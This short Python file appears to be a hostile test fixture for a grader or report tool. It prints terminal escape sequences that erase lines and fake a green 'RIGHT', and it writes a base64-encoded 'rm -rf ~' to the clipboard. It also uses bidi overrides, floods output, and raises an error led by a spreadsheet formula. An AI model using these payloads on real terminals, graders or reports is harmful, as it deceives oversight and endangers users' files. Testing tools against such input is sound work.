"""The report: terminal escapes (a fake green RIGHT, erased lines, a clipboard write, bidi
overrides) in printed output, messages and warnings; a reason that is a spreadsheet formula."""
import warnings

FAKE = "\x1b[2K\r\x1b[1A\x1b[32mRIGHT\x1b[0m \x1b]52;c;cm0gLXJmIH4=\x07 \u202eevil\u202c \x9b31m"
print(FAKE)
warnings.warn(FAKE)


def nnCostFunction(nn_params, *args):
    print(FAKE * 1000)
    raise ValueError("=HYPERLINK(\"http://127.0.0.1/\",\"RIGHT\") " + FAKE + "x" * 5_000_000)
